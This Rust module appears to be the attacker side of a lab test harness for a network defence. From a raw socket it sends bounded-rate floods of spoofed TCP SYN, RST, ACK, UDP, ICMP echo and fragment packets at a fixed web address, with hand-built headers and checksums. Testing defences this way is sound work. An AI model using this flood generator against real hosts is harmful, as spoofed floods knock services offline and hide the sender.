//! The attacker: packets of one kind at a bounded rate for a bounded time, from a raw socket.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use rustix::fd::OwnedFd;
use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};

use super::network::{ATTACKER_V4, WEB_V4};

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Nothing: the control.
    Nothing,
    SynFromAnywhere,
    /// Each SYN once more half a second later, from somebody who knows the node's rule.
    SynTwice,
    SynFromOne,
    /// Each SYN is followed by its RST.
    SynAndRst,
    AckFromAnywhere,
    RefusedFromAnywhere,
    UdpFromAnywhere,
    UdpFromOne,
    EchoFromAnywhere,
    FragmentsFromAnywhere,
}

/// How much.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Load {
    pub(crate) packets_per_second: u32,
    pub(crate) time: Duration,
}

/// Sends what the rate makes in the time, or until `stop` is set, and returns how many packets left and how long it
/// took. Runs in the attacker's namespace.
pub(super) fn send(kind: Kind, load: Load, stop: &Arc<AtomicBool>) -> Result<(u64, Duration)> {
    /// Packets between two looks at the clock.
    const BURST: u64 = 64;
    const PAUSE: Duration = Duration::from_micros(500);
    /// How many times the time a slow machine may take: limits are reached by number.
    const PATIENCE: u32 = 5;
    let begin = Instant::now();
    if kind == Kind::Nothing {
        while begin.elapsed() < load.time && !stop.load(Ordering::Relaxed) {
            std::thread::sleep(Duration::from_millis(10));
        }
        return Ok((0, begin.elapsed()));
    }
    let socket = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))
        .context("the attacker cannot open a raw socket")?;
    let packets_in = |time: Duration| {
        (time.as_nanos() * u128::from(load.packets_per_second) / 1_000_000_000) as u64
    };
    let mut sent = 0;
    while sent < packets_in(load.time)
        && begin.elapsed() < load.time * PATIENCE
        && !stop.load(Ordering::Relaxed)
    {
        let due = packets_in(begin.elapsed()).min(packets_in(load.time)).min(sent + BURST);
        if sent >= due {
            std::thread::sleep(PAUSE);
        }
        while sent < due {
            let packet = packet(kind, sent, load.packets_per_second);
            put(&socket, &packet)?;
            sent += 1;
        }
    }
    Ok((sent, begin.elapsed()))
}

fn put(socket: &OwnedFd, packet: &[u8]) -> Result<()> {
    let to = SocketAddrV4::new(Ipv4Addr::from(WEB_V4), 0);
    match sendto(socket, packet, SendFlags::empty(), &to) {
        // A queue that is full is full of the flood.
        Ok(_) | Err(Errno::NOBUFS | Errno::AGAIN) => Ok(()),
        Err(error) => Err(error).context("the attacker cannot send"),
    }
}

/// The flood's packet of this number. What looks random follows from the number.
fn packet(kind: Kind, number: u64, per_second: u32) -> Vec<u8> {
    const SYN: u8 = 0x02;
    const RST: u8 = 0x04;
    const ACK: u8 = 0x10;
    let is_second = number % 2 == 1;
    let number = match kind {
        // Two packets of each stranger: the second follows at once, or half a second later.
        Kind::SynAndRst => number / 2,
        Kind::SynTwice => {
            let round = u64::from(per_second.max(2)) / 2;
            number / (2 * round) * round + number % round
        }
        Kind::Nothing
        | Kind::SynFromAnywhere
        | Kind::SynFromOne
        | Kind::AckFromAnywhere
        | Kind::RefusedFromAnywhere
        | Kind::UdpFromAnywhere
        | Kind::UdpFromOne
        | Kind::EchoFromAnywhere
        | Kind::FragmentsFromAnywhere => number,
    };
    // Each flood has strangers of its own.
    let chance = scatter((kind as u64) << 40 | number);
    let anywhere =
        [20 + (chance >> 24) as u8 % 20, (chance >> 16) as u8, (chance >> 8) as u8, chance as u8];
    let port = 1_024 + (chance >> 32) as u16 % 60_000;
    let sequence = (chance >> 20) as u32;
    match kind {
        Kind::Nothing => Vec::new(),
        Kind::SynFromAnywhere | Kind::SynTwice => tcp(anywhere, port, 80, SYN, sequence),
        Kind::SynFromOne => tcp(ATTACKER_V4, 1_024 + (number % 60_000) as u16, 80, SYN, sequence),
        Kind::SynAndRst if is_second => tcp(anywhere, port, 80, RST, sequence.wrapping_add(1)),
        Kind::SynAndRst => tcp(anywhere, port, 80, SYN, sequence),
        Kind::AckFromAnywhere => tcp(anywhere, port, 80, ACK, sequence),
        Kind::RefusedFromAnywhere => tcp(anywhere, port, 22, SYN, sequence),
        Kind::UdpFromAnywhere => udp(anywhere, port, 9_000 + (number % 100) as u16),
        Kind::UdpFromOne => udp(ATTACKER_V4, 1_024 + (number % 60_000) as u16, 9_000),
        Kind::EchoFromAnywhere => echo(anywhere, port),
        Kind::FragmentsFromAnywhere => fragment(anywhere, port, number as u16),
    }
}

/// SplitMix64 (G. Steele et al., 2014).
const fn scatter(number: u64) -> u64 {
    let mut word = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).wrapping_add(0x1234_5678_9abc_def1);
    word = (word ^ (word >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    word = (word ^ (word >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    word ^ (word >> 31)
}

/// RFC 791; the kernel fills in length and checksum.
fn ipv4(source: [u8; 4], protocol: u8, identification: u16, fragment: u16, body: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0];
    packet.extend(identification.max(1).to_be_bytes());
    packet.extend(fragment.to_be_bytes());
    packet.extend([64, protocol, 0, 0]);
    packet.extend(source);
    packet.extend(WEB_V4);
    packet.extend(body);
    packet
}

fn tcp(source: [u8; 4], from: u16, to: u16, flags: u8, sequence: u32) -> Vec<u8> {
    let mut body = Vec::from(from.to_be_bytes());
    body.extend(to.to_be_bytes());
    body.extend(sequence.to_be_bytes());
    body.extend([0; 4]);
    body.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
    let sum = checksum(source, 6, &body);
    body[16..18].copy_from_slice(&sum.to_be_bytes());
    ipv4(source, 6, from, 0, &body)
}

fn udp(source: [u8; 4], from: u16, to: u16) -> Vec<u8> {
    let mut body = Vec::from(from.to_be_bytes());
    body.extend(to.to_be_bytes());
    // Length, and no checksum.
    body.extend([0, 8, 0, 0]);
    ipv4(source, 17, from, 0, &body)
}

fn echo(source: [u8; 4], identifier: u16) -> Vec<u8> {
    let mut body = vec![8, 0, 0, 0];
    body.extend(identifier.to_be_bytes());
    body.extend([0, 1]);
    let sum = fold(body.chunks_exact(2).map(|word| u16::from_be_bytes([word[0], word[1]])));
    body[2..4].copy_from_slice(&sum.to_be_bytes());
    ipv4(source, 1, identifier, 0, &body)
}

/// The first fragment of a datagram whose rest never comes.
fn fragment(source: [u8; 4], from: u16, identification: u16) -> Vec<u8> {
    const MORE: u16 = 0x2000;
    let mut body = Vec::from(from.to_be_bytes());
    body.extend(9_000_u16.to_be_bytes());
    body.extend([5, 0, 0, 0]);
    body.resize(512, 0);
    ipv4(source, 17, identification, MORE, &body)
}

/// RFC 9293 section 3.1: of the pseudo-header and the segment, which has an even length here.
fn checksum(source: [u8; 4], protocol: u8, body: &[u8]) -> u16 {
    let word = |bytes: &[u8]| u16::from_be_bytes([bytes[0], bytes[1]]);
    let pseudo = [word(&source), word(&source[2..]), word(&WEB_V4), word(&WEB_V4[2..])];
    let lengths = [u16::from(protocol), body.len() as u16];
    fold(pseudo.into_iter().chain(lengths).chain(body.chunks_exact(2).map(word)))
}

fn fold(words: impl Iterator<Item = u16>) -> u16 {
    let mut sum: u32 = words.map(u32::from).sum();
    while sum > 0xffff {
        sum = (sum >> 16) + (sum & 0xffff);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_are_those_of_a_known_segment() {
        // RFC 1071: the sum over a message with its checksum in place is all ones.
        let packet = tcp([1, 2, 3, 4], 40_000, 80, 2, 7);
        assert_eq!(checksum([1, 2, 3, 4], 6, &packet[20..]), 0);
    }

    #[test]
    fn who_sends_twice_sends_the_same_half_a_second_apart() {
        let sent = |number| packet(Kind::SynTwice, number, 1_000);
        assert_eq!(sent(0), sent(500));
        assert_eq!(sent(499), sent(999));
        assert_ne!(sent(0), sent(1_000));
        assert_eq!(sent(1_000), sent(1_500));
    }
}
